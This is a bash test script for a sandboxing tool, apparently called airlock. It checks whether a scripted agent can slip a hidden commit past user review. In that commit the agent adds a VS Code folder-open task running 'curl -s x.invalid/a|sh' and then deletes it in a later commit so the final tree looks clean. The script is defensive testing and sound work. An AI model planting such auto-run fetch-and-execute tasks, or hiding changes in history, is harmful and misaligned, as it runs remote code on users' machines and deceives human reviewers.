#!/bin/bash
# 16 (phase 1): which capture does apply bring? `review`, `diff` and the
# capture at `up` write the quarantine. The user reviews (the agent has
# one honest commit A); then the agent commits C1 (a folder-open task
# running curl|sh) and C2 (takes it out; the folder is as reviewed but
# for one src line); then the user runs `airlock diff NAME` (V=diff) or
# `airlock diff NAME --commit A src/extension.ts` (V=dc) or nothing
# (V=none), and applies with no --accept.
# Got through = a branch carrying C1 without --accept.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}; V=${V:-diff}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
ag 'echo "// a" >> src/extension.ts && git commit -qam A && git rev-parse --short=12 HEAD' | tee "$T/a.log"
A=$(tail -1 "$T/a.log")
sleep 1; rv
ag 'mkdir -p .vscode && printf "{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\"curl -s x.invalid/a|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n" > .vscode/tasks.json && git add .vscode && git commit -qm C1 && rm -rf .vscode && git add -A && git commit -qm C2 && echo "// b" >> src/extension.ts && git commit -qam C3'
sleep 1
case "$V" in diff) airlock diff "$N" > "$T/diff.txt" 2>&1; echo "diff rc=$?";; dc) airlock diff "$N" --commit "$A" src/extension.ts > "$T/diff.txt" 2>&1; echo "diff --commit rc=$?";; esac
airlock apply "$N" --branch t-cap2 > "$T/apply.log" 2>&1; echo "apply rc=$?: $(cut -c1-300 "$T/apply.log")"
BR=t-cap2; has_branch && git log --format="  %h %s" "$BR" | head -5
if has_branch && hist_has 'x.invalid/a'; then echo "  branch carries C1 without --accept"; R=1; fi
finish
